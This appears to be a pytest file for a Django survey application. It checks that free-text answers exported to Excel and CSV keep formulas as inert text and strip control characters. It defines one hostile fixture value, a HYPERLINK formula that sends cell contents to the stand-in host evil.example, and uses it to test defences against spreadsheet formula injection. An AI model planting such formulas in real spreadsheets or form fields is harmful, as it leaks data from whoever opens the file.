"""Free-text answers in KL's downloads: a formula stays text in svar.xlsx, resultater.xlsx and
svar.csv; control characters never break the Excel files."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from tests.web.survey.conftest import OWN, post_answer

from jobmaal.web.survey.models import Answer, State

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'


@pytest.fixture
def hostile(users, open_round):
    """København's submitted answer with a formula and control characters in its free texts."""
    Answer.objects.filter(round=open_round, municipality_code=OWN).update(
        values={"v1": "ja", "m2": EVIL, "e4": "+tekst\x01 med\x0bstyretegn"}, state=State.SUBMITTED)
    return open_round


def _no_formulas(data: bytes) -> None:
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert not any("<f>" in archive.read(n).decode() for n in archive.namelist()
                   if n.startswith("xl/worksheets/"))


def test_answers_xlsx_keeps_the_formula_as_text_and_drops_control_characters(client, users, hostile):
    client.force_login(users["kl"])
    response = client.get(reverse("survey:answers_download", args=[hostile.pk, "xlsx"]))
    assert response.status_code == 200
    _no_formulas(response.content)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    assert "+tekst med\nstyretegn" in cells and cells["+tekst med\nstyretegn"].quotePrefix


def test_answers_csv_prefixes_formula_text_with_an_apostrophe(client, users, hostile):
    client.force_login(users["kl"])
    raw = client.get(reverse("survey:answers_download", args=[hostile.pk, "csv"])).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw), delimiter=";") for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_results_xlsx_with_hostile_free_text_downloads(client, users, hostile):
    client.force_login(users["kl"])
    response = client.get(reverse("survey:results_download", args=[hostile.pk, "xlsx"]))
    assert response.status_code == 200
    _no_formulas(response.content)
    book = load_workbook(io.BytesIO(response.content))
    texts = [c for row in book["Fritekst"].iter_rows() for c in row if c.value == EVIL]
    assert texts and all(c.quotePrefix for c in texts)


def test_the_answer_form_drops_control_characters(client, users, open_round):
    client.force_login(users["editor"])
    typed = {"q_m1": "ja", "q_m2": "Svar\x01 inden\x0bfem dage"}
    assert post_answer(client, open_round, OWN, typed).status_code == 302
    assert Answer.objects.get(round=open_round, municipality_code=OWN).values["m2"] == "Svar inden\nfem dage"
